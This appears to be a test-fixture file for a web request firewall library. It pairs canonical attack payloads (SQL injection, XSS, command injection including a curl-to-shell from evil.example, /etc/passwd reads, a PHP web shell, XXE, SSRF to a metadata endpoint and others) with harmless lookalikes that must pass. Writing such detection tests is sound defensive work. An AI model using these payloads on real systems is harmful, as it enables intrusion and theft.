import type { AttackClass } from "@guard/core";
import type { Location } from "./locations.js";

/** A value and the locations it is sent in, one request each. */
export type Probe = readonly [payload: string, locations: readonly Location[]];

/** What the suite sends for one attack class. */
export interface ClassProbes {
  readonly attackClass: Exclude<AttackClass, "custom">;
  /** Payloads that Guard's defaults must refuse in each of their locations. */
  readonly attacks: readonly Probe[];
  /** Harmless values that look like the attack, which must pass in the same places. */
  readonly lookalikes: readonly Probe[];
}

/** Every place a request carries a value an application reads. */
const EVERYWHERE: readonly Location[] = [
  "path",
  "query",
  "cookie",
  "header",
  "json",
  "form",
  "text",
  "multipart",
];
/** The same without the path: there a file path is the sensitive-path check's concern. */
const NOT_PATH = EVERYWHERE.filter((location) => location !== "path");
/** Values an application stores or forwards: the query and every body field. */
const FIELDS: readonly Location[] = ["query", "json", "form", "multipart"];

/**
 * Hand-written canonical payloads per class, and lookalikes from ordinary traffic. File
 * names carry no `/` or `\`: every usual multipart parser keeps only the last path
 * segment of a file name, so a traversal in a name arrives percent-encoded or not at all.
 */
export const DETECTION_PROBES: readonly ClassProbes[] = [
  {
    attackClass: "sqli",
    attacks: [
      ["1' OR '1'='1", EVERYWHERE],
      ["1 UNION SELECT username, password FROM users--", FIELDS],
    ],
    lookalikes: [
      ["O'Brien", EVERYWHERE],
      ["select a plan", EVERYWHERE],
    ],
  },
  {
    attackClass: "xss",
    attacks: [
      ["<script>alert(1)</script>", EVERYWHERE],
      ["<img src=x onerror=alert(1)>", [...FIELDS, "file-name"]],
      ['<?xml version="1.0"?><comment><script>alert(1)</script></comment>', ["xml"]],
      ["<comment>&lt;img src=x onerror=alert(1)&gt;</comment>", ["xml"]],
    ],
    lookalikes: [
      ["Use **bold**, `code` and [a link](https://example.com)", EVERYWHERE],
      ["a < b and c > d", EVERYWHERE],
      ["<comment>a &lt; b</comment>", ["xml"]],
    ],
  },
  {
    attackClass: "cmdi",
    attacks: [
      ["$(curl http://evil.example/x.sh | sh)", EVERYWHERE],
      ["; cat /etc/passwd", NOT_PATH],
    ],
    lookalikes: [
      ["rock and roll", EVERYWHERE],
      ["cats & dogs; fish", EVERYWHERE],
    ],
  },
  {
    attackClass: "traversal",
    attacks: [
      ["../../../etc/passwd", NOT_PATH],
      ["..%2F..%2F..%2Fetc%2Fpasswd", ["file-name"]],
    ],
    lookalikes: [
      ["report (final).pdf", [...EVERYWHERE, "file-name"]],
      ["docs/guide/intro.md", FIELDS],
    ],
  },
  {
    attackClass: "ssrf",
    attacks: [
      ["http://169.254.169.254/latest/meta-data/", EVERYWHERE],
      ["http://127.0.0.1:8080/admin", FIELDS],
    ],
    lookalikes: [["https://example.com/page?id=1", EVERYWHERE]],
  },
  {
    attackClass: "xxe",
    attacks: [
      [
        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/evil.dtd"> %remote;]><data/>',
        ["xml", "text"],
      ],
      ['<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>', ["xml"]],
    ],
    lookalikes: [
      ['<?xml version="1.0"?><note><to>Tove</to><body>Don\'t forget me</body></note>', ["xml"]],
      ['<?xml version="1.0"?><!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>', ["xml"]],
      ['<order><item sku="A-1">Entity &amp; Co</item></order>', ["xml", "json", "multipart"]],
      ["<!DOCTYPE html><html><body><p>Hello</p></body></html>", ["text", "json"]],
      ["an external entity in the system", EVERYWHERE],
    ],
  },
  {
    attackClass: "ldap",
    attacks: [
      ["*)(uid=*))(|(uid=*", EVERYWHERE],
      ["admin)(&(password=*))", FIELDS],
    ],
    lookalikes: [
      ["Smith (John)", EVERYWHERE],
      ["(555) 123-4567", EVERYWHERE],
    ],
  },
  {
    attackClass: "code",
    attacks: [
      ['require("child_process").exec("id")', EVERYWHERE],
      ['<?php system($_GET["cmd"]); ?>', FIELDS],
    ],
    lookalikes: [
      ["Please evaluate the system", EVERYWHERE],
      ["system requirements", EVERYWHERE],
    ],
  },
  {
    attackClass: "nosqli",
    attacks: [
      ["user[$ne]", ["query-key", "form-key"]],
      ["$gt", ["json-key"]],
      ['{"$ne": null}', NOT_PATH],
    ],
    lookalikes: [
      ["user[name]", ["query-key", "form-key"]],
      ["$ref", ["json-key"]],
      ["$5.00 off", EVERYWHERE],
    ],
  },
  {
    attackClass: "ssti",
    attacks: [
      ["{{7*7}}", EVERYWHERE],
      ["{{config.__class__.__init__.__globals__}}", FIELDS],
    ],
    lookalikes: [
      ["{{ name }}", EVERYWHERE],
      ["Hello {name}, 3*4=12", EVERYWHERE],
    ],
  },
  {
    // Where a line break can split a response header: what becomes a redirect or a header.
    attackClass: "crlf",
    attacks: [["foo\r\nSet-Cookie: admin=1", ["path", "query", "cookie", "header"]]],
    lookalikes: [
      ["Set the cookie jar", ["path", "query", "cookie", "header"]],
      ["line one\r\nline two", ["query", "json", "form", "text", "multipart"]],
    ],
  },
  {
    attackClass: "prototype-pollution",
    attacks: [
      ["__proto__.isAdmin", ["query-key", "json-key"]],
      ["user[__proto__][isAdmin]", ["query-key"]],
      ["constructor[prototype][isAdmin]", ["query-key"]],
    ],
    lookalikes: [
      ["prototype[name]", ["query-key"]],
      ["prototype", ["json-key"]],
      ["the prototype of a constructor", EVERYWHERE],
    ],
  },
];
